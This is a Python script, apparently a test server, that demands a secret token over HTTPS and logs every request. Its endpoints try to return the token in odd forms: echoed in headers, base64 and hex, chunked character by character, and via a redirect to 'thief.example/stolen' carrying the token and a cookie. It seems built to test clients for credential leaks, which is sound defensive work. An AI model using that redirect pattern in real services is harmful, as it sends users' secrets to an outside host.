"""A server over HTTPS that demands a value, tells everything that it was sent, and tries to give it back.

Arguments: certificate with key, file to write what came to, directory to serve, the value, then addresses.
"""

from __future__ import annotations

import base64
import json
import ssl
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

CERTIFICATE, LOG, DIRECTORY, VALUE, *ADDRESSES = sys.argv[1:]
BASIC = base64.b64encode(f"x-access-token:{VALUE}".encode()).decode()
ACCEPTED = {f"token {VALUE}", f"Bearer {VALUE}", f"Basic {BASIC}"}
_LOCK = threading.Lock()


class Handler(BaseHTTPRequestHandler):
    """Answers one connection."""

    protocol_version = "HTTP/1.1"

    def handle_request(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        line = {
            "at": self.connection.getsockname()[0],
            "path": self.path,
            "headers": list(self.headers.items()),
            "body": body.decode("latin-1"),
        }
        with _LOCK, Path(LOG).open("a", encoding="utf-8") as file:
            file.write(json.dumps(line) + "\n")
        path = self.path.partition("?")[0]
        getattr(self, f"_{path.split('/')[1]}", self._file)(line)

    do_GET = do_POST = do_HEAD = handle_request  # noqa: N815

    def _say(self, status: int, content: bytes, **headers: str) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def _granted(self) -> bool:
        return self.headers.get("authorization", "") in ACCEPTED or self.headers.get("private-token", "") == VALUE

    def _check(self, _line: object) -> None:
        if self._granted():
            self._say(200, b"granted\n")
        else:
            self._say(401, b"refused\n", WWW_Authenticate='Basic realm="x"')

    def _slow(self, line: object) -> None:
        time.sleep(0.7)
        self._check(line)

    def _echo(self, line: object) -> None:
        """Give everything back, in the head and in the body, in several encodings."""
        sent = self.headers.get("authorization", "")
        encoded = base64.b64encode(b"?" + VALUE.encode()).decode()
        text = json.dumps({"sent": line, "value": VALUE, "encoded": encoded, "hex": VALUE.encode().hex()}).encode()
        self._say(200, text, X_Sent=sent, X_Value=VALUE, Content_Type="application/json")

    def _strange(self, _line: object) -> None:
        self._say(200, VALUE.encode(), Content_Encoding="br")

    def _pieces(self, _line: object) -> None:
        """Send the value in chunks that cut it everywhere."""
        self.send_response(200)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for char in f"<{VALUE}>":
            self.wfile.write(b"1\r\n%s\r\n" % char.encode())
            self.wfile.flush()
        self.wfile.write(b"0\r\nX-Trailer: %s\r\n\r\n" % VALUE.encode())

    def _elsewhere(self, _line: object) -> None:
        self._say(302, b"", Location=f"https://thief.example/stolen?{VALUE}", Set_Cookie=f"v={VALUE}")

    def _file(self, _line: object) -> None:
        if not self._granted():
            self._say(401, b"refused\n", WWW_Authenticate='Basic realm="x"')
            return
        wanted = Path(DIRECTORY, self.path.partition("?")[0].lstrip("/"))
        if wanted.is_file():
            self._say(200, wanted.read_bytes())
        else:
            self._say(404, b"")

    def _stolen(self, _line: object) -> None:
        self._say(200, b"thanks\n")

    def log_message(self, *_words: object) -> None:
        pass


class Server(ThreadingHTTPServer):
    """Has its addresses to itself, also where somebody listens on all of them."""

    allow_reuse_port = True


def main() -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(CERTIFICATE)
    for address in ADDRESSES:
        server = Server((address, 443), Handler)
        server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        threading.Thread(target=server.serve_forever, daemon=True).start()
    print("listening", flush=True)  # noqa: T201
    threading.Event().wait()


main()
